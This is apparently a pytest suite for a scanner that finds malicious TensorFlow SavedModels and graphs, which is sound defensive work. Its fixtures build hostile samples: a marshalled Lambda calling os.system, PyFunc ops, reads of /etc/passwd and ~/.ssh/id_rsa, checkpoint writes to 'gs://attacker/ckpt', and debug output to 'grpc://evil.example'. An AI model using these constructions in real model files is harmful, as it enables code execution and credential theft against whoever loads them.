"""tensorflow: honest SavedModels, GraphDefs and MetaGraphDefs are clean; every risky op is a finding.

Fixtures are protobuf bytes laid out as TensorFlow writes them (see _tf_fixtures). Files written by
TensorFlow itself are committed under tests/fixtures/tensorflow/ and scanned in test_tensorflow_real.py.
"""

from __future__ import annotations

import base64
import marshal
import os
import random

import pytest

from modelaudit.errors import BudgetExceeded
from modelaudit.scanners._protobuf import ReadLimits
from modelaudit.scanners.tensorflow import TensorFlowScanner, flavour
from tests.conftest import codes, findings, run_cli, scan
from tests.scanners import _tf_fixtures as fx
from tests.scanners._tf_fixtures import DT_FLOAT, DT_STRING, A, const_string, node

pytestmark = pytest.mark.timeout(120)


def _issues(result: dict, code: str) -> list[dict]:
    return [i for i in result["issues"] if i["rule_code"] == code]


def _model_dir(tmp_path, model: bytes | None = None, **kwargs):
    return fx.write_saved_model(tmp_path / "model", model, **kwargs)


def _with_call_nodes(*extra: bytes) -> bytes:
    """The honest model with nodes added to the body of its __call__ function."""
    return fx.honest_saved_model(body=fx.call_nodes() + list(extra))


def _scan_model(tmp_path, model: bytes, **kwargs) -> dict:
    return scan(_model_dir(tmp_path, model, **kwargs) / "saved_model.pb")


# --- honest files ------------------------------------------------------------------------------
def test_honest_saved_model_directory_is_clean(tmp_path):
    directory = _model_dir(tmp_path, assets={"vocab.txt": b"a\nb\n"})
    result = scan(directory)
    assert findings(result) == [] and result["has_errors"] is False, findings(result)
    assert "tensorflow" in result["scanner_names"]
    graph_check = next(c for c in result["checks"] if "SavedModel (tags" in c["message"])
    for op in ("SaveV2", "RestoreV2", "MergeV2Checkpoints", "StringJoin", "ShardedFilename", "VarHandleOp",
               "ReadVariableOp", "StatefulPartitionedCall", "MatMul", "BiasAdd", "Relu"):
        assert op in graph_check["message"]
    assert "4 library function(s)" in graph_check["message"]
    assert run_cli("scan", str(directory)).code == 0


def test_honest_frozen_graph_and_meta_graph_are_clean(tmp_path):
    weights = node("w", "Const", dtype=A.type(DT_FLOAT), value=A.tensor(DT_FLOAT, (4, 3), content=bytes(48)))
    frozen = fx.graph([node("x", "Placeholder", dtype=A.type(DT_FLOAT), shape=A.shape(-1, 4)), weights,
                       node("MatMul", "MatMul", "x", "w", T=A.type(DT_FLOAT)),
                       node("y", "Identity", "MatMul", T=A.type(DT_FLOAT))])
    (tmp_path / "frozen.pb").write_bytes(frozen)
    tf1 = fx.graph([*fx.variable("w", 4, 3), const_string("save/filename/input", "model"),
                    node("save/filename", "PlaceholderWithDefault", "save/filename/input", dtype=A.type(DT_STRING),
                         shape=A.shape()),
                    node("save/Const", "PlaceholderWithDefault", "save/filename", dtype=A.type(DT_STRING),
                         shape=A.shape()),
                    const_string("save/SaveV2/tensor_names", "w"), const_string("save/SaveV2/shape_and_slices", ""),
                    node("save/SaveV2", "SaveV2", "save/Const", "save/SaveV2/tensor_names",
                         "save/SaveV2/shape_and_slices", "w/Read/ReadVariableOp", dtypes=A.list(types=(DT_FLOAT,))),
                    node("save/RestoreV2", "RestoreV2", "save/Const", "save/SaveV2/tensor_names",
                         "save/SaveV2/shape_and_slices", dtypes=A.list(types=(DT_FLOAT,)))])
    (tmp_path / "model.meta").write_bytes(fx.meta_graph(tf1))
    for name in ("frozen.pb", "model.meta"):
        result = scan(tmp_path / name)
        assert findings(result) == [], (name, findings(result))
        assert result["assets"][0]["type"] == "pb" and "tensorflow" in result["scanner_names"]


GRAPH_PBTXT = """node {
  name: "x"
  op: "Placeholder"
  attr { key: "dtype" value { type: DT_FLOAT } }
  attr { key: "shape" value { shape { dim { size: -1 } dim { size: 4 } } } }
}
node {
  name: "w"
  op: "Const"
  attr { key: "dtype" value { type: DT_FLOAT } }
  attr {
    key: "value"
    value { tensor { dtype: DT_FLOAT tensor_shape { dim { size: 4 } dim { size: 3 } } float_val: 0.5 } }
  }
}
node { name: "MatMul" op: "MatMul" input: "x" input: "w" attr { key: "T" value { type: DT_FLOAT } } }
node { name: "y" op: "Identity" input: "MatMul" attr { key: "T" value { type: DT_FLOAT } } }
versions { producer: 2129 }
"""


def test_text_graph_and_saved_model_pbtxt(tmp_path):
    (tmp_path / "graph.pbtxt").write_text(GRAPH_PBTXT)
    result = scan(tmp_path / "graph.pbtxt")
    assert findings(result) == [] and result["assets"][0]["type"] == "pbtxt"
    assert "MatMul" in result["checks"][0]["message"]
    hostile = GRAPH_PBTXT.replace('op: "MatMul"', 'op: "PyFunc" attr { key: "token" value { s: "pyfunc_0" } }')
    text = f'saved_model_schema_version: 1\nmeta_graphs {{\n  graph_def {{\n{hostile}\n  }}\n}}\n'
    (tmp_path / "sm").mkdir()
    (tmp_path / "sm" / "saved_model.pbtxt").write_text(text)
    result = scan(tmp_path / "sm" / "saved_model.pbtxt")
    assert codes(result, "critical") == {"MA-T102"} and "pyfunc_0" in _issues(result, "MA-T102")[0]["message"]


@pytest.mark.parametrize("spelling", ["op: 'PyFunc'", 'op: "Py" "Func"', r'op: "\x50y\106unc"', 'op:"PyFunc";',
                                      '# op: "MatMul"\n op: "PyFunc"'])
def test_text_spellings_of_an_op(tmp_path, spelling):
    (tmp_path / "graph.pbtxt").write_text(GRAPH_PBTXT.replace('op: "MatMul"', spelling))
    assert codes(scan(tmp_path / "graph.pbtxt"), "warning") == {"MA-T102"}


def test_text_corruption_never_crashes(tmp_path):
    rng = random.Random(3)
    path = tmp_path / "graph.pbtxt"
    for _ in range(200):
        text = list(GRAPH_PBTXT)
        for _ in range(rng.randint(1, 5)):
            text[rng.randrange(len(text))] = rng.choice('{}<>[]:;,"\'\\ #x0-\n')
        path.write_text("".join(text))
        assert "MA-S005" not in codes(scan(path))


def test_text_configs_that_are_not_graphs_stay_quiet(tmp_path):
    (tmp_path / "config.pbtxt").write_text('name: "resnet"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\n'
                                           'input [ { name: "x" data_type: TYPE_FP32 dims: [ 3, 224, 224 ] } ]\n')
    (tmp_path / "scene.meta").write_text("fileFormatVersion: 2\nguid: 0123456789abcdef\n")
    result = scan(tmp_path)
    assert findings(result) == [] and result["has_errors"] is False


def test_keras_metadata_lambda_layer(tmp_path):
    dense = '{"class_name": "Dense", "config": {"name": "dense", "units": 3}}'
    directory = _model_dir(tmp_path, keras_metadata=fx.keras_metadata(("root", "_tf_keras_network", dense)))
    assert findings(scan(directory)) == []
    code = base64.b64encode(marshal.dumps((lambda t: __import__("os").system(t)).__code__)).decode()
    layer = ('{"class_name": "Lambda", "config": {"name": "evil", "function": {"class_name": "__tuple__", '
             f'"items": ["{code}", null, null]}}, "function_type": "lambda", "module": "__main__"}}}}')
    model = f'{{"class_name": "Functional", "config": {{"layers": [{layer}]}}}}'
    (directory / "keras_metadata.pb").write_bytes(fx.keras_metadata(("root", "_tf_keras_network", model),
                                                                    ("root.layer-0", "_tf_keras_layer", layer)))
    result = scan(directory / "keras_metadata.pb")
    (issue,) = _issues(result, "MA-T108")  # reported once, though the model and the layer both describe it
    assert issue["severity"] == "critical" and "'evil'" in issue["message"] and "system" in issue["message"]


def test_lambda_in_saved_object_metadata(tmp_path):
    layer = '{"class_name": "Lambda", "config": {"name": "f", "function": "my_fn", "function_type": "function"}}'
    model = fx.honest_saved_model(objects=fx.object_graph(keras_metadata=layer.encode()))
    result = _scan_model(tmp_path, model)
    assert codes(result, "warning") == {"MA-T108"} and "my_fn" in result["issues"][0]["message"]


# --- code and file ops -----------------------------------------------------------------------------
@pytest.mark.parametrize("op", ["PyFunc", "PyFuncStateless", "EagerPyFunc", "LoadLibrary"])
def test_code_ops_in_the_graph_are_critical(tmp_path, op):
    result = _scan_model(tmp_path, fx.honest_saved_model(extra_nodes=[node("evil", op, "serving_default_x",
                                                                            token=A.s("pyfunc_7"))]))
    (issue,) = findings(result)
    assert issue["rule_code"] == "MA-T102" and issue["severity"] == "critical" and "graph/evil" in issue["message"]
    assert run_cli("scan", str(tmp_path / "model")).code == 1


def test_pyfunc_inside_a_library_function(tmp_path):
    result = _scan_model(tmp_path, _with_call_nodes(node("py", "EagerPyFunc", "x", token=A.s("pyfunc_0"),
                                                         Tin=A.list(types=(DT_FLOAT,)), Tout=A.list(types=(DT_FLOAT,)))))
    (issue,) = findings(result)
    assert issue["rule_code"] == "MA-T102" and fx.CALL in issue["message"] and "pyfunc_0" in issue["message"]


def test_file_ops_fed_at_run_time_are_warnings(tmp_path):
    result = _scan_model(tmp_path, _with_call_nodes(
        node("read", "ReadFile", "x"), node("write", "WriteFile", "x", "x"), node("ls", "MatchingFiles", "x"),
        node("mm", "ImmutableConst", dtype=A.type(DT_FLOAT), shape=A.shape(4), memory_region_name=A.s("w.bin"))))
    issues = _issues(result, "MA-T103")
    assert {i["details"]["op"] for i in issues} == {"ReadFile", "WriteFile", "MatchingFiles", "ImmutableConst"}
    assert all(i["severity"] == "warning" for i in issues) and codes(result, "warning") == {"MA-T103"}
    assert "w.bin" in next(i["message"] for i in issues if i["details"]["op"] == "ImmutableConst")


def test_constant_paths_outside_the_model_are_critical(tmp_path):
    nodes = [const_string("passwd", "/etc/passwd"), node("read", "ReadFile", "passwd:output:0"),
             const_string("home", "~/.ssh"), const_string("key", "id_rsa"),
             node("join", "StringJoin", "home:output:0", "key:output:0", N=A.i(2), separator=A.s("/")),
             node("steal", "ReadFile", "join:output:0"),
             const_string("dir", ".."), const_string("file", "../x"),
             node("climb", "StringJoin", "dir:output:0", "file:output:0", N=A.i(2)),
             node("write", "WriteFile", "climb:output:0", "x"),
             const_string("prefix", "gs://attacker/ckpt"), node("id", "Identity", "prefix:output:0"),
             node("save", "SaveV2", "id:output:0", "passwd:output:0", "passwd:output:0", "x",
                  dtypes=A.list(types=(DT_FLOAT,)))]
    result = _scan_model(tmp_path, _with_call_nodes(*nodes))
    flagged = {i["details"]["node"].split("/")[-1]: i for i in _issues(result, "MA-T104")}
    assert set(flagged) == {"read (ReadFile)", "steal (ReadFile)", "write (WriteFile)", "save (SaveV2)"}
    assert all(i["severity"] == "critical" for i in flagged.values())
    assert "~/.ssh/id_rsa" in flagged["steal (ReadFile)"]["message"]
    assert "gs://attacker/ckpt" in flagged["save (SaveV2)"]["message"]


def test_print_debug_and_descriptor_attributes(tmp_path):
    nodes = [node("p1", "PrintV2", "x", output_stream=A.s("file:///home/u/.bashrc")),
             node("p2", "PrintV2", "x", output_stream=A.s("stderr")),
             node("d1", "DebugIdentityV2", "x", debug_urls=A.list(strings=("grpc://evil.example:6064",))),
             node("d2", "DebugIdentityV2", "x", debug_urls=A.list()),
             node("proto1", "DecodeProtoV2", "x", descriptor_source=A.s("/etc/descriptors.bin")),
             node("proto2", "DecodeProtoV2", "x", descriptor_source=A.s("local://"))]
    result = _scan_model(tmp_path, _with_call_nodes(*nodes))
    flagged = sorted(i["details"]["node"].split("/")[-1] for i in _issues(result, "MA-T104"))
    assert flagged == ["d1 (DebugIdentityV2)", "p1 (PrintV2)", "proto1 (DecodeProtoV2)"]
    assert codes(result, "warning") == {"MA-T104"}


def test_custom_ops_and_function_calls(tmp_path):
    result = _scan_model(tmp_path, _with_call_nodes(node("c1", "SentencepieceOp", "x"), node("c2", "SentencepieceOp"),
                                                    node("f", fx.SIGNATURE, "x")))  # a direct function call is fine
    (issue,) = findings(result)
    assert issue["rule_code"] == "MA-T105" and issue["details"] == {"op": "SentencepieceOp", "nodes": 2}


def test_tf1_asset_constants_fed_by_the_loader_are_not_paths(tmp_path):
    nodes = [const_string("vocab_path", "/tmp/export/assets/vocab.txt"),
             node("table", "HashTableV2", key_dtype=A.type(DT_STRING), value_dtype=A.type(9)),
             node("init", "InitializeTableFromTextFileV2", "table", "vocab_path", key_index=A.i(-2),
                  value_index=A.i(-1))]
    graph = fx.graph(fx.honest_graph_nodes() + nodes, fx.honest_functions())
    model = fx.saved_model(fx.meta_graph(graph, fx.object_graph(), assets=[("vocab_path:0", "vocab.txt")]))
    assert findings(_scan_model(tmp_path / "a", model, assets={"vocab.txt": b"a\n"})) == []
    model = fx.saved_model(fx.meta_graph(graph, fx.object_graph()))  # the same constant, not declared as an asset
    assert codes(_scan_model(tmp_path / "b", model), "warning") == {"MA-T104"}


# --- the SavedModel directory ----------------------------------------------------------------------
def test_asset_paths_and_links(tmp_path):
    model = fx.honest_saved_model(assets=[("vocab_path:0", "../../../etc/passwd"), ("other:0", "missing.txt")])
    result = _scan_model(tmp_path, model, assets={"ok.txt": b"x"})
    assert codes(result, "warning") == {"MA-T107", "MA-T106"}
    assert "passwd" in _issues(result, "MA-T107")[0]["message"]
    outside = tmp_path / "secret.txt"
    outside.write_text("secret")
    os.symlink(outside, tmp_path / "model" / "assets" / "vocab.txt")
    model = fx.honest_saved_model(assets=[("vocab_path:0", "vocab.txt")])
    (tmp_path / "model" / "saved_model.pb").write_bytes(model)
    issue, = findings(scan(tmp_path / "model" / "saved_model.pb"))
    assert issue["rule_code"] == "MA-T107" and "outside the SavedModel" in issue["message"]


def test_variables_directory_must_be_complete(tmp_path):
    directory = _model_dir(tmp_path)
    (directory / "variables" / "variables.index").unlink()
    (directory / "variables" / "variables.data-00001-of-00003").write_bytes(b"x")
    result = scan(directory / "saved_model.pb")
    messages = " | ".join(i["message"] for i in _issues(result, "MA-T106"))
    assert "no variables.index" in messages and "mixes shards" in messages
    for name in os.listdir(directory / "variables"):
        os.unlink(directory / "variables" / name)
    (directory / "variables" / "variables.index").write_bytes(b"x")
    os.symlink(tmp_path / "elsewhere.bin", directory / "variables" / "variables.data-00000-of-00001")
    result = scan(directory / "saved_model.pb")
    assert codes(result, "warning") == {"MA-T107"}
    for name in os.listdir(directory / "variables"):
        os.unlink(directory / "variables" / name)
    os.rmdir(directory / "variables")
    assert codes(scan(directory / "saved_model.pb"), "warning") == {"MA-T106"}  # variables in the graph, none here


def test_object_graph_must_name_library_functions(tmp_path):
    model = fx.honest_saved_model(objects=fx.object_graph(functions=(fx.CALL, fx.SIGNATURE, "__inference_gone_9")))
    (issue,) = findings(_scan_model(tmp_path, model))
    assert issue["rule_code"] == "MA-T101" and "__inference_gone_9" in issue["message"]


# --- malformed and hostile structure -------------------------------------------------------------
def test_every_truncation_is_reported(tmp_path):
    data = _with_call_nodes(node("py", "PyFunc", "x"))
    path = tmp_path / "saved_model.pb"
    scanner = TensorFlowScanner()
    for cut in list(range(0, 64)) + list(range(64, len(data), 37)):
        path.write_bytes(data[:cut])
        result = scanner.scan(str(path))
        assert {i.rule_code for i in result.issues} & {"MA-T101", "MA-T102"}, cut
        assert not [i for i in result.issues if i.rule_code == "MA-S005"], cut


def test_random_corruption_never_crashes(tmp_path):
    rng = random.Random(7)
    data = bytearray(fx.honest_saved_model())
    path = tmp_path / "saved_model.pb"
    for _ in range(300):
        broken = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            broken[rng.randrange(len(broken))] = rng.randrange(256)
        path.write_bytes(bytes(broken))
        result = scan(path)
        assert "MA-S005" not in codes(result), result["issues"]


def test_malformed_protobuf_and_text(tmp_path):
    nested = b""
    for _ in range(150):  # AttrValue.func -> NameAttrList.attr -> AttrValue ... past the depth budget
        nested = fx.ln(10, fx.ln(1, "f") + fx.entry(2, "a", nested))
    bad = {"saved_model.pb": fx.vi(1, 1) + fx.ln(2, b"\x12\xff\xff\x03abc"),
           "deep.pb": fx.graph([node("n", "Identity", a=nested)]),
           "bad.pbtxt": 'node { name: "x" op: "Const" ',
           "odd.pbtxt": 'node { name: "x" op: "Const" } }',
           "binary.pbtxt": b"\x00\x01\x02\xff".decode("latin-1")}
    for name, data in bad.items():
        (tmp_path / name).write_bytes(data if isinstance(data, bytes) else data.encode())
        result = scan(tmp_path / name)
        assert "MA-T101" in codes(result, "warning"), (name, result["issues"])
        assert "MA-S005" not in codes(result)
    assert run_cli("scan", str(tmp_path / "bad.pbtxt")).code == 1


def test_not_a_graph_and_empty_files(tmp_path):
    (tmp_path / "input_0.pb").write_bytes(fx.vi(1, 3) + fx.vi(2, 1) + fx.ln(9, bytes(12)))  # an ONNX TensorProto
    result = scan(tmp_path / "input_0.pb")
    assert codes(result, "warning") == {"MA-S004"} and run_cli("scan", str(tmp_path / "input_0.pb")).code == 2
    (tmp_path / "saved_model.pb").write_bytes(b"")
    assert codes(scan(tmp_path / "saved_model.pb"), "warning") == {"MA-T101"}


def test_onnx_model_saved_as_pb_is_read_as_onnx(tmp_path):
    pytest.importorskip("onnx")
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])
    for op, domain, expected in (("Relu", "", set()), ("PyOp", "ai.onnx.contrib", {"MA-O004"})):
        graph = helper.make_graph([helper.make_node(op, ["X"], ["Y"], domain=domain)], "g", [x], [y])
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
        (tmp_path / "model.pb").write_bytes(model.SerializeToString())
        result = scan(tmp_path / "model.pb")
        assert codes(result, "warning") == expected and "opsets" in result["checks"][0]["message"]


def test_budget_and_names(tmp_path, monkeypatch):
    path = _model_dir(tmp_path, _with_call_nodes(node("py", "PyFunc", "x"))) / "saved_model.pb"
    monkeypatch.setattr(TensorFlowScanner, "read_limits", ReadLimits(max_fields=200))
    with pytest.raises(BudgetExceeded):
        TensorFlowScanner().scan(str(path))
    result = scan(path)
    assert codes(result) == {"MA-T109"}  # the budget stops before the PyFunc deep in the library
    assert [flavour(n) for n in ("a/saved_model.pb", "keras_metadata.pb", "fingerprint.pb", "x.meta", "g.pb")] == [
        "saved_model", "keras_metadata", "fingerprint", "meta_graph", "graph"]


def test_saved_model_that_looks_like_another_format_is_still_read(tmp_path):
    # an unknown field first: TensorFlow skips it, and the bytes now pass for a pickle
    data = b"(" + fx.varint(1) + _with_call_nodes(node("py", "PyFunc", "x"))
    (tmp_path / "saved_model.pb").write_bytes(data)
    result = scan(tmp_path / "saved_model.pb")
    assert "MA-T102" in codes(result, "critical") and result["assets"][0]["type"] == "pb"


def test_honest_fixture_is_assembled_from_its_parts():
    assert fx.honest_saved_model() == fx.saved_model(fx.meta_graph(
        fx.graph(fx.honest_graph_nodes(), fx.honest_functions()), fx.object_graph()))


# Files written by TensorFlow itself are scanned in test_tensorflow_real.py;
# tests/fixtures/tensorflow/generate.py also parses the fixtures built here with TensorFlow's protobuf classes.


# --- text-format values of the wrong shape, found by mutation ------------------------------------
def test_text_asset_index_that_is_not_a_number(tmp_path):
    """The text format accepts any token where an integer belongs; the scanner must not compare it."""
    text = (f'saved_model_schema_version: 1\nmeta_graphs {{\n  graph_def {{\n{GRAPH_PBTXT}\n  }}\n'
            '  object_graph_def { nodes { asset { asset_file_def_index: foo } } }\n}\n')
    (tmp_path / "saved_model.pbtxt").write_text(text)
    result = scan(tmp_path / "saved_model.pbtxt")
    assert "MA-S005" not in codes(result)
    assert any("asset_file_def_index foo names no asset file" in i["message"] for i in _issues(result, "MA-T101"))


def test_text_asset_collection_is_read_like_the_binary_one(tmp_path):
    """A TF1 asset listed in collection_def as a serialized AssetFileDef string, in a .pbtxt SavedModel."""
    asset = fx.ln(1, fx.ln(1, "asset_path:0")) + fx.ln(2, "../../home/user/.ssh/id_rsa")
    escaped = "".join(f"\\x{b:02x}" for b in asset)
    text = (f'saved_model_schema_version: 1\nmeta_graphs {{\n  graph_def {{\n{GRAPH_PBTXT}\n  }}\n'
            '  collection_def { key: "saved_model_assets" value { any_list { value {\n'
            f'    type_url: "type.googleapis.com/tensorflow.AssetFileDef" value: "{escaped}" }} }} }} }}\n}}\n')
    (tmp_path / "saved_model.pbtxt").write_text(text)
    result = scan(tmp_path / "saved_model.pbtxt")
    assert any(".ssh/id_rsa" in i["message"] for i in _issues(result, "MA-T107")), result["issues"]


def test_asset_collection_past_its_budget_is_incomplete(tmp_path):
    """Entries of the TF1 asset collection past the first 10,000 are not read: said, not skipped quietly."""
    def item(filename: str) -> bytes:
        return fx.ln(1, fx.ln(1, "type.googleapis.com/tensorflow.AssetFileDef")
                     + fx.ln(2, fx.ln(1, fx.ln(1, "a:0")) + fx.ln(2, filename)))
    items = [item("vocab.txt")] * 10_000 + [item("../../etc/shadow")]
    collection = fx.ln(4, fx.ln(1, "saved_model_assets") + fx.ln(2, fx.ln(5, b"".join(items))))
    graph = fx.graph(fx.honest_graph_nodes(), fx.honest_functions())
    result = _scan_model(tmp_path, fx.saved_model(fx.meta_graph(graph, fx.object_graph()) + collection),
                         assets={"vocab.txt": b"a\n"})
    (issue,) = _issues(result, "MA-T109")
    assert "lists 10001 assets; only the first 10000 were checked" in issue["message"]
    assert result["has_errors"] is True and not _issues(result, "MA-S005")


def test_empty_debug_urls_in_front_do_not_hide_a_real_one(tmp_path):
    urls = ("",) * 20 + ("grpc://collector.example:6064",)
    result = _scan_model(tmp_path, _with_call_nodes(node("d", "DebugIdentityV2", "x", debug_urls=A.list(strings=urls))))
    (issue,) = _issues(result, "MA-T104")
    assert "grpc://collector.example:6064" in issue["message"]
